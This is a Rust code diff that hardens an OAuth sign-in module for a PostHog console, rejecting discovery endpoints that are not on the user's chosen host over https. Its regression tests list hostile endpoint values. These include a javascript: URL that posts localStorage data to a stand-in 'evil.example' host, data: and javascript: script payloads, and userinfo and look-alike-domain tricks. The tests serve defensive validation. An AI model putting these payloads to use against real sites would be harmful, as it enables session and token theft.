@@ -13,6 +13,8 @@ use base64::Engine as _;
 use serde::{Deserialize, Serialize};
 use sha2::{Digest, Sha256};
 
+use crate::host::Host;
+
 /// The scopes the console's screens need, and so the ones it asks for (no more).
 pub const SCOPES: [&str; 5] = [
     "group:read",
@@ -156,6 +158,16 @@ pub enum SignInError {
     TokenRefused(String, Option<String>),
     /// The token answer was not JSON of the right shape.
     BadTokenAnswer(String),
+    /// The discovery document names an endpoint (`which`: "sign-in page", "token endpoint",
+    /// "revocation endpoint") off the chosen host's origin, or not over https: a
+    /// `javascript:` or `data:` address, another site, a user-info trick. The address itself
+    /// is not repeated: it came from a server that may be hostile.
+    ForeignEndpoint {
+        /// Which endpoint.
+        which: &'static str,
+        /// The host the user chose.
+        host: String,
+    },
 }
 
 impl std::fmt::Display for SignInError {
@@ -177,12 +189,15 @@ impl std::fmt::Display for SignInError {
             SignInError::TokenRefused(code, d) if code == "invalid_grant" => write!(f, "PostHog would not exchange the sign-in for tokens{}: the code was already used or has expired, or the PKCE verifier did not match. Start again.", detail(d)),
             SignInError::TokenRefused(code, d) => write!(f, "PostHog refused the token request: {code}{}.", detail(d)),
             SignInError::BadTokenAnswer(e) => write!(f, "PostHog's token answer could not be read: {e}."),
+            SignInError::ForeignEndpoint { which, host } => write!(f, "Sign-in was refused: {host}'s OAuth settings send its {which} to an address that is not on {host} over https. This console follows sign-in addresses only on the host you chose. Connect with a personal API key, or ask whoever runs {host}."),
         }
     }
 }
 
-/// Reads a discovery document and checks it offers `S256`.
-pub fn decode_discovery(body: &str) -> Result<Endpoints, SignInError> {
+/// Reads `host`'s discovery document: it must offer `S256`, and every endpoint must be on
+/// `host`'s own origin ([`Host::owns_url`]), so the browser is sent, and the code, verifier
+/// and tokens go, nowhere but the host the user chose.
+pub fn decode_discovery(body: &str, host: &Host) -> Result<Endpoints, SignInError> {
     #[derive(Deserialize)]
     struct Doc {
         #[serde(flatten)]
@@ -199,7 +214,43 @@ pub fn decode_discovery(body: &str) -> Result<Endpoints, SignInError> {
     {
         return Err(SignInError::NoS256);
     }
+    doc.endpoints.check(host)?;
     Ok(doc.endpoints)
+}
+
+impl Endpoints {
+    /// Checks each endpoint is on `host` ([`Host::owns_url`]). Run on discovery and again on
+    /// whatever comes back from storage, which a script or an older build may have written.
+    pub fn check(&self, host: &Host) -> Result<(), SignInError> {
+        let named = [
+            ("sign-in page", Some(&self.authorization_endpoint)),
+            ("token endpoint", Some(&self.token_endpoint)),
+            ("revocation endpoint", self.revocation_endpoint.as_ref()),
+        ];
+        match named
+            .into_iter()
+            .find(|(_, url)| url.is_some_and(|u| !host.owns_url(u)))
+        {
+            Some((which, _)) => Err(SignInError::ForeignEndpoint {
+                which,
+                host: host.to_string(),
+            }),
+            None => Ok(()),
+        }
+    }
+}
+
+/// The address of the consent page to send the browser to, checked to be on the sign-in's
+/// host. Only [`PendingSignIn::authorize_url`] makes one, so the one navigation that leaves
+/// the app (`browser::go_to_sign_in`) cannot be handed a `javascript:` or foreign address.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct AuthorizeUrl(String);
+
+impl AuthorizeUrl {
+    /// The address.
+    pub fn as_str(&self) -> &str {
+        &self.0
+    }
 }
 
 /// The sign-in in progress, kept in sessionStorage across the redirect and removed on the
@@ -223,8 +274,16 @@ pub struct PendingSignIn {
 }
 
 impl PendingSignIn {
-    /// The authorize URL to send the browser to.
-    pub fn authorize_url(&self) -> String {
+    /// The authorize URL to send the browser to; refused unless the authorization endpoint
+    /// is on the sign-in's host (checked here again, whatever built this value).
+    pub fn authorize_url(&self) -> Result<AuthorizeUrl, SignInError> {
+        let host = Host::parse(&self.host).map_err(SignInError::BadDiscovery)?;
+        if !host.owns_url(&self.endpoints.authorization_endpoint) {
+            return Err(SignInError::ForeignEndpoint {
+                which: "sign-in page",
+                host: host.to_string(),
+            });
+        }
         let query = form_urlencoded::Serializer::new(String::new())
             .append_pair("response_type", "code")
             .append_pair("client_id", &self.client_id)
@@ -239,7 +298,10 @@ impl PendingSignIn {
         } else {
             '?'
         };
-        format!("{}{sep}{query}", self.endpoints.authorization_endpoint)
+        Ok(AuthorizeUrl(format!(
+            "{}{sep}{query}",
+            self.endpoints.authorization_endpoint
+        )))
     }
 
     fn authorization_endpoint_has_query(&self) -> bool {
@@ -485,7 +547,8 @@ mod tests {
     #[test]
     fn authorize_url_asks_for_s256_and_the_screens_scopes() {
         let p = pending();
-        let url = p.authorize_url();
+        let url = p.authorize_url().expect("on the host");
+        let url = url.as_str();
         let (base, query) = url.split_once('?').expect("query");
         assert_eq!(base, "https://us.posthog.com/oauth/authorize/");
         let params: Vec<(String, String)> = form_urlencoded::parse(query.as_bytes())
@@ -585,22 +648,132 @@ mod tests {
         );
     }
 
+    fn us() -> Host {
+        Host::parse("https://us.posthog.com").expect("host")
+    }
+
+    fn discovery(authorize: &str, token: &str) -> String {
+        serde_json::json!({
+            "authorization_endpoint": authorize,
+            "token_endpoint": token,
+            "code_challenge_methods_supported": ["S256"],
+        })
+        .to_string()
+    }
+
     #[test]
     fn discovery_requires_s256() {
-        let ok = r#"{"issuer":"https://us.posthog.com","authorization_endpoint":"a","token_endpoint":"t","revocation_endpoint":"r","code_challenge_methods_supported":["S256"]}"#;
+        let ok = r#"{"issuer":"https://us.posthog.com","authorization_endpoint":"https://us.posthog.com/oauth/authorize/","token_endpoint":"https://us.posthog.com/oauth/token/","revocation_endpoint":"https://us.posthog.com/oauth/revoke/","code_challenge_methods_supported":["S256"]}"#;
         assert_eq!(
-            decode_discovery(ok)
+            decode_discovery(ok, &us())
                 .expect("ok")
                 .revocation_endpoint
                 .as_deref(),
-            Some("r")
+            Some("https://us.posthog.com/oauth/revoke/")
         );
         let plain = r#"{"authorization_endpoint":"a","token_endpoint":"t","code_challenge_methods_supported":["plain"]}"#;
-        assert_eq!(decode_discovery(plain), Err(SignInError::NoS256));
+        assert_eq!(decode_discovery(plain, &us()), Err(SignInError::NoS256));
         assert!(matches!(
-            decode_discovery("{}"),
+            decode_discovery("{}", &us()),
             Err(SignInError::BadDiscovery(_))
         ));
+    }
+
+    /// Issue 25: a poisoned discovery document sent the browser to `javascript:` (script in
+    /// the app's origin) or to another site. Every endpoint must be on the chosen host.
+    #[test]
+    fn discovery_endpoints_must_be_on_the_chosen_host() {
+        let token = "https://us.posthog.com/oauth/token/";
+        let foreign = |which| {
+            Err(SignInError::ForeignEndpoint {
+                which,
+                host: "https://us.posthog.com".into(),
+            })
+        };
+        for bad in [
+            "javascript:fetch('https://evil.example/steal',{method:'POST',body:localStorage.k})",
+            "JavaScript://us.posthog.com/%0aalert(1)",
+            "data:text/html,<script>alert(1)</script>",
+            "https://evil.example/oauth/authorize/",
+            "https://us.posthog.com.evil.example/oauth/authorize/",
+            "https://us.posthog.com@evil.example/oauth/authorize/",
+            "https://evil.example@us.posthog.com/oauth/authorize/",
+            "https://us.posthog.com\\@evil.example/",
+            "http://us.posthog.com/oauth/authorize/",
+            "https://us.posthog.com:8443/oauth/authorize/",
+            "//evil.example/oauth/authorize/",
+            "/oauth/authorize/",
+            " https://us.posthog.com/oauth/authorize/",
+            "https://us.posthog.com/oauth/authorize/\n",
+        ] {
+            assert_eq!(
+                decode_discovery(&discovery(bad, token), &us()),
+                foreign("sign-in page"),
+                "{bad}"
+            );
+        }
+        assert_eq!(
+            decode_discovery(
+                &discovery(
+                    "https://us.posthog.com/oauth/authorize/",
+                    "https://evil.example/t"
+                ),
+                &us()
+            ),
+            foreign("token endpoint")
+        );
+        // The good case, with a query of its own kept.
+        let good = decode_discovery(
+            &discovery("https://us.posthog.com/oauth/authorize/?x=1", token),
+            &us(),
+        )
+        .expect("on the host");
+        assert_eq!(
+            good.authorization_endpoint,
+            "https://us.posthog.com/oauth/authorize/?x=1"
+        );
+        // http only where the host is a numeric loopback address.
+        let local = Host::parse("http://127.0.0.1:8000").expect("host");
+        assert!(decode_discovery(
+            &discovery(
+                "http://127.0.0.1:8000/oauth/authorize/",
+                "http://127.0.0.1:8000/oauth/token/"
+            ),
+            &local
+        )
+        .is_ok());
+        let named = Host::parse("http://localhost:8000").expect("host");
+        assert!(decode_discovery(
+            &discovery(
+                "http://localhost:8000/oauth/authorize/",
+                "http://localhost:8000/oauth/token/"
+            ),
+            &named
+        )
+        .is_err());
+    }
+
+    /// The navigation builds its address from the pending sign-in and checks it again, so a
+    /// stored record edited by a script cannot smuggle in another address either.
+    #[test]
+    fn authorize_url_is_refused_off_the_host() {
+        let mut p = pending();
+        p.endpoints.authorization_endpoint = "javascript:alert(1)//".into();
+        assert!(matches!(
+            p.authorize_url(),
+            Err(SignInError::ForeignEndpoint { .. })
+        ));
+        p.endpoints.authorization_endpoint = "https://evil.example/authorize".into();
+        assert!(p.authorize_url().is_err());
+        let message = SignInError::ForeignEndpoint {
+            which: "sign-in page",
+            host: "https://us.posthog.com".into(),
+        }
+        .to_string();
+        assert!(
+            message.contains("not on https://us.posthog.com"),
+            "{message}"
+        );
     }
 
     #[test]
